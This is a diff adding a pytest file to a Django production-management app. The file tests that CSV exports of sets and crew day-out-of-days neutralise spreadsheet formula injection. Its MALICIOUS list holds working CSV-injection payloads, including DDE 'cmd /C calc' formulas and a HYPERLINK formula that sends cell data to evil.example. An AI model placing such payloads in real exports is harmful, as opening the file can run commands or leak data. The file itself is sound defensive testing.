@@ -1,0 +1,173 @@
+"""Every CSV/spreadsheet export neutralises formulas (OWASP's CSV-injection rule) and keeps numbers numbers.
+
+The exports: the admin's "export the selected sets as CSV" action (``locations.importing``
+``set_catalogue_export``) and the crew's day-out-of-days CSV (``/api/v1/crews/{id}/day-out-of-days/
+?format=csv``). ``test_every_export_is_known_here`` fails when code starts writing a spreadsheet
+somewhere else, so that a new export gets its test here.
+"""
+
+import csv
+import io
+import re
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.test import Client
+from django.urls import reverse
+
+from config.spreadsheets import safe_cell, unescape_cell
+from locations.importing import set_catalogue_export, set_catalogue_import
+from locations.models import Set
+from studio.models import Membership
+from tests.crews.factories import CallFactory, CrewFactory, PersonFactory, ShootDayFactory
+from tests.factories import (
+    BaseFactory,
+    MembershipFactory,
+    OperatorFactory,
+    ProductionFactory,
+    SetFactory,
+    UserFactory,
+)
+
+MALICIOUS = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+#: Every module that writes a spreadsheet (CSV or Excel) and the test below that covers it.
+EXPORT_MODULES = {
+    "locations/importing.py": "test_admin_set_export_neutralises_formulas_and_keeps_numbers",
+    "locations/admin.py": "test_admin_set_export_neutralises_formulas_and_keeps_numbers",
+    "crews/api/renderers.py": "test_day_out_of_days_csv_neutralises_formulas_and_keeps_numbers",
+    "crews/api/views.py": "test_day_out_of_days_csv_neutralises_formulas_and_keeps_numbers",
+}
+WRITES_A_SPREADSHEET = re.compile(
+    r"csv\.writer|csv\.DictWriter|text/csv|\.xlsx|openpyxl|xlsxwriter|\.export\(|export_data\("
+)
+
+
+def read_csv(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def is_formula(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("text", MALICIOUS)
+def test_a_cell_that_would_be_a_formula_gets_a_quote(text):
+    assert safe_cell(text) == "'" + text
+    assert unescape_cell(safe_cell(text)) == text
+
+
+@pytest.mark.parametrize(
+    "value", [12, -12, Decimal("-12.50"), 3.5, None, True, "-12.5", "+86", "1e3", "林晚", "'quoted", "a=b"]
+)
+def test_numbers_and_plain_text_are_left_alone(value):
+    assert safe_cell(value) is value
+    assert unescape_cell(value) is value
+
+
+def test_every_export_is_known_here():
+    root = Path(settings.BASE_DIR)
+    found = set()
+    for app in ("config", "studio", "locations", "bookings", "crews", "notifications"):
+        for path in (root / app).rglob("*.py"):
+            if "migrations" in path.parts:
+                continue
+            relative = path.relative_to(root).as_posix()
+            if WRITES_A_SPREADSHEET.search(path.read_text(encoding="utf-8")) and relative != (
+                "config/spreadsheets.py"
+            ):
+                found.add(relative)
+    assert all(callable(globals().get(name)) for name in EXPORT_MODULES.values())
+    unknown = sorted(found - set(EXPORT_MODULES))
+    assert not unknown, (
+        f"{unknown} write CSV or spreadsheets: pass every cell through config.spreadsheets.safe_cell and "
+        "add a test here (and the module to EXPORT_MODULES)"
+    )
+
+
+@pytest.mark.django_db
+def test_admin_set_export_neutralises_formulas_and_keeps_numbers():
+    operator = OperatorFactory()
+    user = UserFactory(is_staff=True)
+    MembershipFactory(user=user, organization=operator, role=Membership.Role.MANAGER)
+    client = Client()
+    client.force_login(user)
+    base = BaseFactory(operator=operator, name='=HYPERLINK("http://evil.example")')
+    sets = [
+        SetFactory(
+            base=base,
+            name=name,
+            description="@SUM(1+1)",
+            tags=["=1+1", "豪门"],
+            hourly_rate=Decimal("350.00"),
+            crew_capacity=40,
+        )
+        for name in MALICIOUS
+    ]
+
+    response = client.post(
+        reverse("admin:locations_set_changelist"),
+        {"action": "export_csv", "_selected_action": [set_.pk for set_ in sets]},
+    )
+
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    header, *rows = read_csv(response.content)
+    assert len(rows) == len(MALICIOUS)
+    for row in rows:
+        assert not any(is_formula(cell) for cell in row), row
+    by_column = [dict(zip(header, row, strict=True)) for row in rows]
+    assert sorted(row["name"] for row in by_column) == sorted("'" + name for name in MALICIOUS)
+    assert {row["base"] for row in by_column} == {'\'=HYPERLINK("http://evil.example")'}
+    assert {row["description"] for row in by_column} == {"'@SUM(1+1)"}
+    assert {row["tags"] for row in by_column} == {"'=1+1,豪门"}
+    assert {Decimal(row["hourly_rate"]) for row in by_column} == {Decimal("350.00")}
+    assert {int(row["crew_capacity"]) for row in by_column} == {40}
+
+
+@pytest.mark.django_db
+def test_set_export_read_back_changes_nothing():
+    operator = OperatorFactory()
+    base = BaseFactory(operator=operator, name="一号基地")
+    for name in MALICIOUS[:5]:  # (the import trims a name's leading tab or line break)
+        SetFactory(base=base, name=name, description="=1+1", tags=["@x"])
+    before = sorted(Set.objects.values_list("name", "description", "tags"))
+
+    exported = set_catalogue_export(sets=Set.objects.all())
+    result = set_catalogue_import(operator=operator, data=exported, by=None)
+
+    assert result["created"] == 0
+    assert sorted(Set.objects.values_list("name", "description", "tags")) == before
+
+
+@pytest.mark.django_db
+def test_day_out_of_days_csv_neutralises_formulas_and_keeps_numbers(api):
+    owner = MembershipFactory(role=Membership.Role.OWNER)
+    company = owner.organization
+    crew = CrewFactory(production=ProductionFactory(company=company))
+    day = ShootDayFactory(crew=crew, date=date(2030, 5, 1))
+    for name in MALICIOUS:
+        CallFactory(shoot_day=day, person=PersonFactory(company=company, name=name))
+
+    response = api(owner.user, company).get(f"/api/v1/crews/{day.crew.pk}/day-out-of-days/?format=csv")
+
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    header, *rows = read_csv(response.content)
+    assert len(rows) == len(MALICIOUS)
+    for row in rows:
+        assert not any(is_formula(cell) for cell in row), row
+    assert sorted(row[0] for row in rows) == sorted("'" + name for name in MALICIOUS)
+    assert {row[-1] for row in rows} == {"1"}  # the day count is still a number
+    assert header[2] == "2030-05-01"
